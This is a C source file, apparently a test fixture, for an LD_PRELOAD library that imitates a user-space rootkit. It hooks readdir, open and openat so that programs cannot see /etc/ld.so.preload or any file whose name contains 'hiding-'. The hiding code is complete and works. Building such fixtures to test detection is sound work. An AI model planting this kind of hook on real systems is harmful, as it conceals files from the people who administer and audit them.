/* A library as rootkits of user space are: named in /etc/ld.so.preload, it keeps every program that uses the C library from seeing that
   file, and whatever has "hiding-" in its name. Written for the tests; tests/tests/preload.rs builds it, for machines of 64 bits. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <string.h>

static int is_hidden(const char *name)
{
    return strstr(name, "ld.so.preload") || strstr(name, "hiding-");
}

struct dirent *readdir(DIR *folder)
{
    struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    do
        entry = next(folder);
    while (entry && is_hidden(entry->d_name));
    return entry;
}

static int unless_hidden(int folder, const char *path, int flags, int mode)
{
    int (*next)(int, const char *, int, ...) = dlsym(RTLD_NEXT, "openat");
    if (is_hidden(path)) {
        errno = ENOENT;
        return -1;
    }
    return next(folder, path, flags, mode);
}

int openat(int folder, const char *path, int flags, ...)
{
    va_list more;
    va_start(more, flags);
    int mode = va_arg(more, int);
    va_end(more);
    return unless_hidden(folder, path, flags, mode);
}

int open(const char *path, int flags, ...)
{
    va_list more;
    va_start(more, flags);
    int mode = va_arg(more, int);
    va_end(more);
    return unless_hidden(AT_FDCWD, path, flags, mode);
}

/* The names of the same for large files, which coreutils call. */
struct dirent64 *readdir64(DIR *folder) __attribute__((alias("readdir")));
int openat64(int folder, const char *path, int flags, ...) __attribute__((alias("openat")));
int open64(const char *path, int flags, ...) __attribute__((alias("open")));
